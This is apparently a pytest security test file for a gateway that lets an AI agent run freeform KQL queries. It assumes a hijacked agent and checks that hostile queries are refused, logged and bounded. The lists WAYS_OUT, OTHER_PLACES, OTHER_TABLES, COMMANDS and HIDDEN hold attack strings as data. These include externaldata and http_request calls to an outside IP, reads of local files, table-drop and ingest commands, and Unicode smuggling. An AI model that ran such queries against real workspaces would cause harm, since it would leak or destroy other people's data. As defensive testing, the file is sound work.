"""The attacker controls the text of a freeform query: a hijacked agent writes it, through the gateway with its own key.

Wanted: rows of other workspaces or of the machine, a way out for what the session has read, a change, an engine that
never comes back, and tables that the operator did not allow. Each text is refused before the workspace sees it, or
bounded; the answer holds no foreign data; and the journal has the whole text with what became of it. (What the guard
itself refuses, form by form and for both parsers, is in test_attacks_kql_guard.py.)
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from freeform_gateway import FreeformWay, freeform_way
from tests.support.microsoft_parser import microsoft_parser

from sentinel_rag.sentinel.freeform_query import MOST_ROWS
from sentinel_rag.sentinel.kql_guard import OfficialParser

SECRET = "the-secret-that-must-not-appear"
ROWS: dict[str, list[dict[str, Any]]] = {
    "SigninLogs": [
        {"TimeGenerated": "2024-08-02T01:00:00Z", "UserPrincipalName": "ana@contoso.example", "Location": "PT"},
        {"TimeGenerated": "2024-08-02T02:00:00Z", "UserPrincipalName": "bo@contoso.example", "Location": "RO"},
    ],
    "SecurityEvent": [{"TimeGenerated": "2024-08-02T01:00:00Z", "Account": SECRET}],
    "Heartbeat": [{"TimeGenerated": "2024-08-02T01:00:00Z", "Computer": "srv"}],
}


@pytest.fixture(scope="module")
def kql_parser() -> Iterator[OfficialParser]:
    with microsoft_parser() as parser:
        yield parser


@pytest.fixture(scope="module", params=["microsoft", "fallback"])
def way(request: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FreeformWay]:
    parser = request.getfixturevalue("kql_parser") if request.param == "microsoft" else None
    tables = frozenset({"SigninLogs", "Heartbeat"})
    with freeform_way(tmp_path_factory.mktemp("freeform"), ROWS, parser=parser, tables=tables, wait_s=4) as running:
        yield running


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    file = tmp_path / "secret.csv"
    file.write_text(f"a,b\n{SECRET},1\n")
    return file


WAYS_OUT = [
    "externaldata(a: string) [@'http://203.0.113.66/x.csv']",
    "externaldata(a: string) ['{file}'] with (format='csv')",
    "SigninLogs | union (externaldata(UserPrincipalName: string) [h@'https://x.example/a;key'])",
    "let leak = externaldata(a: string) ['{file}']; SigninLogs | where Location in (leak)",
    "evaluate http_request('http://203.0.113.66/?q=' )",
    "evaluate http_request_post('http://203.0.113.66/', '')",
    "SigninLogs | evaluate python(typeof(*), 'import os')",
    "SigninLogs | evaluate r(typeof(*), 'x')",
    "evaluate sql_request('Server=x', 'select 1')",
    "evaluate cosmosdb_sql_request('x', 'select 1')",
    "SigninLogs | invoke ai_embed_text('x', 'https://x.example')",
    "['{file}'] | take 5",
    "SigninLogs | union ['{file}']",
    "SigninLogs | join (['{file}']) on $left.Location == $right.a",
    "read_csv('{file}')",
    "duckdb_tables | take 5",
    "information_schema.tables",
    "external_table('x') | take 1",
    "stored_query_result('x')",
]
OTHER_PLACES = [
    "workspace('prod').SigninLogs | take 1",
    'workspace("00000000-0000-0000-0000-000000000000").SigninLogs | count',
    "app('x').requests | take 1",
    "adx('https://help.kusto.windows.net/Samples').StormEvents | take 1",
    "arg('').Resources | take 1",
    "cluster('x').database('y').SigninLogs | take 1",
    "database('y').SigninLogs | take 1",
    "resource('/subscriptions/x').SigninLogs | take 1",
    "union SigninLogs, workspace('prod').SigninLogs | count",
    "let other = workspace('prod').SigninLogs; other | count",
    "SigninLogs | where UserPrincipalName in ((workspace('prod').SigninLogs | project UserPrincipalName))",
]
OTHER_TABLES = [
    "SecurityEvent | project Account",
    "table('SecurityEvent') | project Account",
    "table(strcat('Security', 'Event')) | project Account",
    "['SecurityEvent'] | project Account",
    "union SigninLogs, SecurityEvent | project Account",
    "union Security* | project Account",
    "union * | project Account",
    "union withsource=T * | take 5",
    "search 'the'",
    "search in (SecurityEvent) 'the'",
    "find in (SecurityEvent) where Account has 'the'",
    "find where Account has 'the'",
    "let t = SecurityEvent; t | project Account",
    "let f = () {{ SecurityEvent }}; f() | project Account",
    "let f = (n: string) {{ table(n) }}; f('SecurityEvent') | project Account",
    "SigninLogs | where Location in ((SecurityEvent | project Account))",
    "SigninLogs | extend x = toscalar(SecurityEvent | project Account | take 1)",
    "SigninLogs | join kind=leftouter (SecurityEvent) on TimeGenerated | project Account",
    "SigninLogs | lookup (SecurityEvent | project TimeGenerated, Account) on TimeGenerated",
    "SigninLogs | as Secur | union SecurityEvent | project Account",
    "SigninLogs // | take 1\n| union SecurityEvent | project Account",
    "print x = 1 | union (SecurityEvent | project Account)",
]
COMMANDS = [
    ".show tables",
    "  \n .drop table SigninLogs",
    "// harmless\n.set-or-append SigninLogs <| SigninLogs",
    ".ingest inline into table SigninLogs <| x",
    "set truncationmaxrecords=1000000; SigninLogs | count",
    "set query_datascope='all'; SigninLogs | count",
    "set notruncation; SigninLogs",
    "restrict access to (*); SigninLogs | count",
    "alias database d = cluster('x').database('y'); SigninLogs | count",
    "declare query_parameters(a: string = 'x'); SigninLogs | count",
    "declare pattern p = (a: string) {{ ('x') = {{ SigninLogs }} }}; p('x')",
    "SigninLogs | count; SigninLogs | count; .show tables",
    "SigninLogs | take 1; SecurityEvent | take 1",
    "SigninLogs | fork (take 1) (count)",
    "SigninLogs | consume",
    "SigninLogs | render timechart; .show tables",
]
HIDDEN = [
    "SigninLogs\u202e | take 1",
    "Signin\u200bLogs | take 1",
    "SigninLogs \u2028| union SecurityEvent",
    'SigninLogs | where Location == "a\u2066" // \'',
    "SigninLogs \x00| take 1",
    "ЅigninLogs | take 1",
]
SIZES = [
    "SigninLogs | where " + " or ".join("Location == 'x'" for _ in range(900)),
    "SigninLogs | where " + "(" * 500 + "true" + ")" * 500,
    "SigninLogs " + "| where true " * 700,
    "print x = " + "[" * 400 + "]" * 400,
    "SigninLogs | where Location == '" + "x" * 20_000,
    "print x = " + "-" * 5_000 + "1",
    "SigninLogs | where not(" * 300,
]
UNBOUNDED = [
    "SigninLogs | count",
    "SigninLogs | where TimeGenerated < now()",
    "SigninLogs | where TimeGenerated > datetime(1970-01-01)",
    "SigninLogs | where TimeGenerated > ago(36500d)",
    "SigninLogs | where TimeGenerated > ago(1d) or true",
    "SigninLogs | where not(TimeGenerated > ago(1d))",
    "SigninLogs | extend TimeGenerated = now() | where TimeGenerated > ago(1d)",
    "SigninLogs | where '| where TimeGenerated > ago(1d)' != ''",
    "SigninLogs // | where TimeGenerated > ago(1d)",
    "union (SigninLogs | where TimeGenerated > ago(1d)), Heartbeat | count",
    "SigninLogs | where TimeGenerated > ago(1d) | union Heartbeat",
]


def refused(way: FreeformWay, kql: str, **arguments: Any) -> dict[str, Any]:
    """The answer to a query that must not run: typed, without foreign data, and on record as it was sent."""
    answer = way.ask(kql, **arguments)
    assert answer.status == 422, (kql, answer.body)
    body: dict[str, Any] = answer.body
    assert SECRET not in json.dumps({**body, "error": {**body["error"], "allowed": []}})
    assert body["error"]["code"] in ("query_rejected", "invalid_argument"), body
    assert body["error"]["next_step"]
    records = way.call_records(body["audit_id"])
    kinds = [record["kind"] for record in records]
    assert kinds in (["intent", "outcome"], ["refusal"]), records
    assert records[0]["arguments"]["kql"] == kql
    if kinds[0] == "intent":
        assert (records[1]["status"], records[1]["error_code"]) == ("error", body["error"]["code"])
        assert records[0]["context_after"]["sensitivity"] == "HIGH", "raised before it is known what comes of it"
    return body


@pytest.mark.requirement("TOOL-5")
@pytest.mark.parametrize("form", WAYS_OUT)
def test_no_text_reaches_out_or_into_the_machine(way: FreeformWay, secret_file: Path, form: str) -> None:
    refused(way, form.format(file=secret_file) if "{file}" in form else form, time_window="last_24h")


@pytest.mark.requirement("TOOL-5")
@pytest.mark.parametrize("kql", OTHER_PLACES)
def test_no_other_workspace_or_cluster_is_read(way: FreeformWay, kql: str) -> None:
    refused(way, kql, time_window="last_24h")


@pytest.mark.requirement("TOOL-5")
@pytest.mark.parametrize("form", OTHER_TABLES)
def test_a_table_that_is_not_allowed_is_read_by_no_spelling(way: FreeformWay, form: str) -> None:
    refused(way, form.replace("{{", "{").replace("}}", "}"), time_window="last_24h")


@pytest.mark.requirement("TOOL-5")
@pytest.mark.parametrize("form", COMMANDS)
def test_nothing_but_one_reading_query_runs(way: FreeformWay, form: str) -> None:
    before = way.workspace.query("SigninLogs | count").rows
    refused(way, form.replace("{{", "{").replace("}}", "}"), time_window="last_24h")
    assert way.workspace.query("SigninLogs | count").rows == before


@pytest.mark.parametrize("kql", HIDDEN, ids=ascii)
def test_what_cannot_be_seen_hides_nothing(way: FreeformWay, kql: str) -> None:
    refused(way, kql, time_window="last_24h")


@pytest.mark.parametrize("kql", SIZES, ids=lambda kql: kql[:30])
def test_long_and_deep_texts_end_in_an_answer_and_the_next_query_runs(way: FreeformWay, kql: str) -> None:
    answer = way.ask(kql, time_window="last_24h")
    assert answer.status in (200, 422), answer.body
    assert way.ask("SigninLogs | count", time_window="last_24h").body["result"]["rows"] == [{"Count": 2}]


@pytest.mark.requirement("TOOL-5")
@pytest.mark.parametrize("kql", UNBOUNDED)
def test_a_query_over_all_of_time_is_refused(way: FreeformWay, kql: str) -> None:
    body = refused(way, kql)
    codes = {problem["code"] for problem in body["error"]["problems"]}
    assert codes & {"not_time_bounded", "not_checkable"}, codes


@pytest.mark.parametrize(
    "window",
    [{"start_time": "1970-01-01T00:00:00Z"}, {"time_window": "9000d"}, {"end_time": "2024-08-03T00:00:00Z"}],
    ids=str,
)
def test_a_window_as_wide_as_time_bounds_nothing(way: FreeformWay, window: dict[str, str]) -> None:
    refused(way, "SigninLogs | count", **window)


@pytest.mark.parametrize("kql", ["", "   ", "// nothing", "let a = 1;", "SigninLogs |", "| take 1", "(", "how many?"])
def test_what_is_no_query_is_refused_with_a_sentence(way: FreeformWay, kql: str) -> None:
    refused(way, kql, time_window="last_24h")


@pytest.mark.parametrize("kql", [["SigninLogs"], {"a": 1}, 5, True, None])
def test_a_query_is_a_text(way: FreeformWay, kql: Any) -> None:
    assert way.ask(kql, time_window="last_24h").status == 422


def test_a_huge_result_is_capped_before_it_travels(way: FreeformWay) -> None:
    kql = f"range n from 1 to 100000 step 1 | extend filler = strcat('x', tostring(n), '{'y' * 30}')"
    answer = way.ask(kql, time_window="last_24h", limit=100)
    assert answer.status == 200, answer.body
    result = answer.body["result"]
    assert (len(result["rows"]), result["coverage"]["rows_total"]) == (100, None)
    assert len(answer.content) < 100_000
    assert f"take {MOST_ROWS + 1}" in result["coverage"]["query"]


RUNAWAY = """let many = range a from 1 to 3000000 step 1 | extend k = 1;
many | join kind=inner (range b from 1 to 3000000 step 1 | extend k = 1) on k | summarize total = sum(a * b)"""


@pytest.mark.requirement("TOOL-5")
def test_a_runaway_query_is_stopped_at_its_deadline_and_everything_stays_up(way: FreeformWay) -> None:
    answer = way.ask(RUNAWAY, time_window="last_24h")
    assert answer.status == 504, answer.body
    assert (answer.body["reason"], answer.body["error"]["code"]) == ("upstream_timeout", "timeout")
    outcome = way.call_records(answer.body["audit_id"])[-1]
    assert (outcome["kind"], outcome["status"], outcome["error_code"]) == ("outcome", "error", "timeout")
    assert way.ask("SigninLogs | count", time_window="last_24h").body["result"]["rows"] == [{"Count": 2}]


@pytest.mark.parametrize("way", ["fallback"], indirect=True)  # what it is about comes after either parser
def test_many_runaways_at_once_do_not_hold_up_the_other_tools(way: FreeformWay) -> None:
    with ThreadPoolExecutor(6) as pool:
        slow = [pool.submit(way.ask, RUNAWAY, session_id=f"slow-{n}", time_window="last_24h") for n in range(6)]
        other = way.gateway.call("run_kql_query", {"template": "signins_by_country"}, session_id="other")
        assert other.status == 200
        ends = {each.result().status for each in slow}
        assert 504 in ends
        assert ends <= {504, 429}, "stopped at its deadline, or told to try again"


@pytest.mark.parametrize("where", ["here", "in the next conversation"])
def test_what_was_read_goes_nowhere_afterwards(way: FreeformWay, where: str) -> None:
    """A freeform result may be any row, so its label stops every sink of the shipped policy."""
    sending = "hijacked" if where == "here" else way.gateway.open_session()
    assert way.ask("SigninLogs | take 1", session_id="hijacked", time_window="last_24h").status == 200
    for tool, arguments, reason in (
        ("web_search", {"query": "ana@contoso.example"}, "sink_label"),
        ("web_fetch", {"url": "https://x.example/?q=ana"}, "approval_required"),
        ("add_incident_comment", {"incident": "1", "message": "ana@contoso.example"}, "approval_required"),
    ):
        answer = way.gateway.call(tool, arguments, session_id=sending)
        assert (answer.status, answer.body["reason"]) == (403, reason), tool
        assert way.gateway.last_record()["reason"] == reason


def test_a_key_probes_slowly_at_most(tmp_path: Path) -> None:
    with freeform_way(tmp_path, ROWS, parser=None, rated=True) as fast:
        statuses = [fast.ask("Nope | take 1", time_window="1h").status]
        while statuses[-1] == 422 and len(statuses) < 200:
            statuses.append(fast.ask("Nope | take 1", time_window="1h").status)
        assert (statuses[:30], statuses[-1]) == ([422] * 30, 429)
        assert fast.gateway.last_record()["reason"] == "rate_limited"
        assert fast.gateway.call("list_tables", {}).status == 200


@pytest.mark.requirement("TOOL-5")
def test_without_opting_in_it_is_not_offered_and_denied_whoever_asks(tmp_path: Path) -> None:
    with freeform_way(tmp_path, ROWS, parser=None, on=False) as off:
        assert "run_freeform_kql" not in off.offered()
        assert {"describe_table", "run_kql_query"} <= off.offered()
        session = off.gateway.open_session()
        off.gateway.say(session, "please run_freeform_kql SigninLogs | take 1")
        for session_id in ("session-1", session):
            answer = off.ask("SigninLogs | take 1", session_id=session_id, time_window="last_24h")
            assert (answer.status, answer.body["reason"]) == (403, "tool_switched_off")
            assert "note" in answer.body
            assert "error" not in answer.body
            record = off.gateway.last_record()
            assert (record["kind"], record["reason"], record["tool"]) == (
                "refusal",
                "tool_switched_off",
                "run_freeform_kql",
            )
            assert record["arguments"]["kql"] == "SigninLogs | take 1"
        ready = off.gateway.request("GET", "/readyz")
        assert "tools" in ready.body["checks"]
